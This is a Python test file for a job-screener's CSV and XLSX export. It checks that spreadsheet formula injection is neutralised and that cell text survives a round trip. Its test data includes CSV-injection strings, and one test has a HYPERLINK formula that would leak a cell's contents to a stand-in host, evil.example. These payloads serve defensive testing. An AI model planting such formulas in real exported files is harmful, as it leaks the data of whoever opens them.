"""No cell can run as a formula, and any text survives a write and a read back (CSV and XLSX)."""

from __future__ import annotations

import csv
import io
import math
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from screener.export.cells import FORMULA_STARTS, XML_ILLEGAL, cell, is_formula_risk, neutralise, restore
from screener.export.csvfile import csv_text, write_csv
from screener.export.readback import read_edits
from screener.export.xlsx import write_xlsx
from screener.rank.shortlist import COLUMNS

TEXT_COLUMNS = ("title", "company", "location", "why", "pitch", "url", "my_status", "my_notes")
attacks = st.sampled_from(
    ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x","y")', "'=1", "''", "＝1", "-"]
)
texts = st.one_of(st.text(), attacks, st.builds(lambda a, b: a + b, attacks, st.text()))


def frame_with(value: str, **numbers: float) -> pd.DataFrame:
    row = {c: None for c in COLUMNS}
    row.update({c: value for c in TEXT_COLUMNS}, id="0123abcd", score=71.5, pay_change_pct=-12.0, rank=1)
    row.update(numbers)
    return pd.DataFrame([row], columns=COLUMNS)


def expected(value: str) -> str | None:
    return value.strip() or None


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "＝1"])
def test_neutralise_and_restore(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert not is_formula_risk(neutralise(text))
    assert restore(neutralise(text)) == text
    assert neutralise("plain") == "plain" and restore("'quoted") == "'quoted"


def test_numbers_stay_numbers() -> None:
    assert cell(-12.0) == -12.0 and cell(3) == 3 and cell(float("nan")) is None and cell(None) is None
    assert cell(pd.NA) is None and cell(True) == "yes"


@settings(max_examples=300, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(value=texts)
def test_csv_never_writes_a_formula_and_round_trips(tmp_path: Path, value: str) -> None:
    frame = frame_with(value)
    text = csv_text(frame)
    for row in csv.reader(io.StringIO(text, newline="")):
        for field in row:
            if field and field.startswith(FORMULA_STARTS):
                assert not math.isnan(float(field)), field  # only real numbers, like -12.0
    path = tmp_path / "s.csv"
    write_csv(frame, path)
    (edit,) = read_edits(path)
    assert edit.my_notes == expected(value)
    assert edit.my_status == expected(value)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(value=st.one_of(texts, st.builds(lambda a, b: a + b, st.sampled_from("\x00\x1f\ufffe\uffff"), attacks)))
def test_xlsx_never_writes_a_formula_and_round_trips(tmp_path: Path, value: str) -> None:
    from openpyxl import load_workbook

    frame = frame_with(value)
    path = tmp_path / "s.xlsx"
    write_xlsx(frame, path)
    sheet = load_workbook(path).active
    for row in sheet.iter_rows():
        for c in row:
            assert c.data_type != "f"
            assert not (isinstance(c.value, str) and is_formula_risk(c.value)), c.value
    (edit,) = read_edits(path)
    kept = XML_ILLEGAL.sub("", value)  # XML cannot hold these: dropped, and only these
    # XLSX (XML) normalises a lone carriage return to a line feed
    assert edit.my_notes == expected(kept.replace("\r\n", "\n").replace("\r", "\n")) or edit.my_notes == expected(kept)


@pytest.mark.parametrize("hidden", ["\ufffe", "\uffff", "\x00", "\x1f", "\x0b\ufffe"])
def test_xlsx_formula_behind_a_character_xml_drops_stays_text(tmp_path: Path, hidden: str) -> None:
    from openpyxl import load_workbook

    attack = hidden + '=HYPERLINK("http://evil.example/?leak="&A1,"Apply")'
    path = tmp_path / "s.xlsx"
    write_xlsx(frame_with(attack), path)
    cells = [c for row in load_workbook(path).active.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert read_edits(path)[0].my_notes == attack.lstrip(hidden)


def test_xlsx_drops_characters_xml_cannot_hold(tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    write_xlsx(frame_with("a\x00b\x1fc"), path)
    assert read_edits(path)[0].my_notes == "abc"
